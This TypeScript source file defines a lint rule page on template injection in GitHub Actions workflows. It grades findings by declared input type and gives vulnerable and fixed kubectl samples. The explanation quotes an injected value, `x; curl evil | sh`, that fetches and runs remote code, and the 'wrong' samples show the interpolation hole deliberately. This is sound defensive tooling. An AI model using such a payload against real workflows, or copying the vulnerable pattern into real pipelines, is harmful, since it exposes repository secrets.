import type { RulePage } from "./rule-page.ts";

export const templateInjection: RulePage = {
  id: "template-injection",
  why: `\`\${{ … }}\` is pasted into the script before the shell reads it. Who may run a skill chooses its inputs, without any right to the repository: \`x; curl evil | sh\` as a namespace would run with the secrets of the skill. An environment variable is only ever text.

Findings are graded by what the input can hold:

| declared | finding | because |
| --- | --- | --- |
| \`string\`, \`environment\`, or no type | error | it can hold any text; GitHub does not look whether an environment of that name exists |
| \`number\` | warning | infraskill refuses what is no number before it dispatches; whether GitHub does is not documented |
| \`boolean\` | remark | GitHub refuses every value but \`true\` and \`false\` |
| \`choice\` | remark | GitHub refuses every value but the options, and those stand in the reviewed file |

\`github.event.inputs.*\` is the text of the event and counts as a string, whatever is declared: write \`inputs.*\`, which has the declared type. Branch names count as strings as well. \`\${{ env.X }}\` where X holds an input, step outputs made from inputs, and anything wrapped in \`format\`, \`fromJSON\`, \`join\` or \`||\` count as what is in them. [nested-code](nested-code.md), [runner-files](runner-files.md) and [obeyed-variables](obeyed-variables.md) grade their findings the same way. Of what other actions are given by \`with\`, only code is read: their own handling of it is not followed. actionlint knows titles, bodies and branch names of issues and pull requests, and takes no input for untrusted.

\`--fix\` puts the value into \`env\` and the variable into the script of sh or bash, quoted for where it stands: in single and double quotes, outside of quotes, in here-documents. A value that was several words without quotes stays one. In a comment only the name is left. It changes nothing where no variable would be expanded (\`<<'EOF'\`), where the variable would be code again (\`bash -c '…'\`, arithmetic; [nested-code](nested-code.md)), and in other shells; the message says what to do there.`,
  allow: `An error cannot be allowed. In a script, hand the value over through \`env\`; for an image, the options of a container or a \`shell\`, write a fixed value or make the input a choice. Warnings and remarks do not block.`,
  samples: [
    {
      title: "An input in a script",
      at: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
`,
      wrong: `          kubectl --namespace \${{ inputs.namespace }} rollout restart deployment
`,
      fixed: true,
    },
    {
      title: "The same by the event",
      at: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
`,
      wrong: `          kubectl --namespace "\${{ github.event.inputs.namespace }}" rollout restart deployment
`,
      fixed: true,
    },
    {
      title: "By way of env",
      at: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
`,
      wrong: `          kubectl --namespace '\${{ env.NAMESPACE }}' rollout restart deployment
`,
      fixed: true,
    },
    {
      title: "Wrapped in functions",
      at: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
`,
      wrong: `          kubectl \${{ format('--namespace={0}', fromJSON(toJSON(inputs.namespace))) }} rollout restart deployment
`,
      right: `          kubectl --namespace="$NAMESPACE" rollout restart deployment
`,
      fixed: true,
    },
    {
      title: "A number",
      at: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
`,
      wrong: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
          kubectl --namespace "$NAMESPACE" scale deployment --replicas \${{ inputs.replicas }}
`,
      right: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
          kubectl --namespace "$NAMESPACE" scale deployment --replicas "$REPLICAS"
`,
      severity: "warning",
      fixed: true,
    },
    {
      title: "A boolean",
      at: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
`,
      wrong: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
          kubectl --namespace "$NAMESPACE" delete pods --all --force=\${{ inputs.force }}
`,
      right: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
          kubectl --namespace "$NAMESPACE" delete pods --all --force="$FORCE"
`,
      severity: "info",
      fixed: true,
    },
    {
      title: "A boolean by the event, where it is text",
      at: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
`,
      wrong: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
          kubectl --namespace "$NAMESPACE" delete pods --all --force=\${{ github.event.inputs.force }}
`,
      right: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
          kubectl --namespace "$NAMESPACE" delete pods --all --force="$FORCE"
`,
      fixed: true,
    },
    {
      title: "A choice",
      at: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
`,
      wrong: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
          echo size \${{ inputs.size }}
`,
      right: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
          echo size "$SIZE"
`,
      severity: "info",
      fixed: true,
    },
    {
      title: "In github-script",
      at: `      - id: step1
        name: "Restart"
`,
      wrong: `      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea
        with:
          script: |
            core.info("\${{ inputs.namespace }}")
      - id: step1
        name: "Restart"
`,
      right: `      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea
        with:
          script: |
            core.info(process.env.NAMESPACE)
      - id: step1
        name: "Restart"
`,
      fixed: true,
    },
    {
      title: "An image that the caller names",
      at: `    name: Execute
`,
      wrong: `    name: Execute
    container: \${{ inputs.namespace }}
`,
      right: `    name: Execute
    container: debian:13
`,
    },
    {
      title: "Handed to code that is not shown",
      at: `      - id: step1
        name: "Restart"
`,
      wrong: `      - uses: ./.github/actions/restart
        with:
          pre-command: kubectl --namespace \${{ inputs.namespace }} get pods
      - id: step1
        name: "Restart"
`,
      right: `      - uses: ./.github/actions/restart
      - id: step1
        name: "Restart"
`,
      severity: "warning",
    },
  ],
};
